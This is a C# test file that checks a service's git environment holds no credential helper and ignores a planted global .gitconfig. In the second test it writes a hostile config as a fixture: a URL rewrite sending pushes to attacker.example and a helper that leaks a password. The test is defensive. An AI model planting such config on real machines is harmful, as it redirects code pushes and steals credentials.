using System.Diagnostics;
using ClaudeHooks.Config;
using ClaudeHooks.Workdir;

namespace ClaudeHooks.Tests.Workdir;

/// <summary>The service's git environment, driven through the real git credential protocol on this machine: it holds no secret and answers none.</summary>
public sealed class GitEnvironmentTests : IDisposable
{
    private readonly TempDirectory _home = new();

    public void Dispose() => _home.Dispose();

    [Fact]
    public async Task Maintenance_HasNoCredentialHelper_SoNoHostGetsAPassword()
    {
        var environment = Maintenance();

        var own = await FillAsync(environment, "http", "127.0.0.1:7411");
        var other = await FillAsync(environment, "https", "attacker.example");

        Assert.DoesNotContain("password=", own, StringComparison.Ordinal);
        Assert.DoesNotContain("password=", other, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Maintenance_IgnoresAPlantedGlobalConfig()
    {
        // What a task could leave in a home directory: a rewrite of every push URL and a helper that leaks the token.
        var planted = Path.Combine(_home.Path, ".gitconfig");
        await File.WriteAllTextAsync(planted, "[url \"http://attacker.example/\"]\n\tinsteadOf = http://forge.example:3000/\n[credential]\n\thelper = \"!f() { echo password=planted; }; f\"\n");
        var environment = Maintenance().Select(e => e.StartsWith("HOME=", StringComparison.Ordinal) ? $"HOME={_home.Path}" : e).ToList();

        var pushUrl = await GitAsync(environment, null, "ls-remote", "--get-url", "http://forge.example:3000/acme/widgets.git");
        var config = await GitAsync(environment, null, "config", "--show-origin", "--list");
        var own = await FillAsync(environment, "http", "forge.example:3000");

        Assert.DoesNotContain("attacker", pushUrl, StringComparison.Ordinal);
        Assert.DoesNotContain(planted, config, StringComparison.Ordinal);
        Assert.DoesNotContain("planted", own, StringComparison.Ordinal);
    }

    private static List<string> Maintenance() => [.. GitEnvironment.Maintenance(Agent(), "task1", "/run/claude-hooks/gateway/p.sock")];

    private static AgentConfig Agent() => ConfigLoader.Parse("agents.json", """{ "agents": { "dev": { "role": "dev", "forge_user": "it-dev" } } }""", new ClaudeHooksPaths("/nonexistent")).Agents[0];

    private static Task<string> FillAsync(IReadOnlyList<string> environment, string protocol, string host) =>
        GitAsync(environment, $"protocol={protocol}\nhost={host}\npath=acme/widgets.git\n\n", "credential", "fill");

    private static async Task<string> GitAsync(IReadOnlyList<string> environment, string? input, params string[] arguments)
    {
        var start = new ProcessStartInfo("git") { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true };
        start.Environment.Clear();
        start.Environment["PATH"] = "/usr/bin:/bin";
        foreach (var pair in environment)
        {
            var cut = pair.IndexOf('=', StringComparison.Ordinal);
            start.Environment[pair[..cut]] = pair[(cut + 1)..];
        }

        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        using var process = Process.Start(start)!;
        await process.StandardInput.WriteAsync(input ?? "");
        process.StandardInput.Close();
        var output = await process.StandardOutput.ReadToEndAsync();
        var error = await process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync();
        return output + error;
    }
}
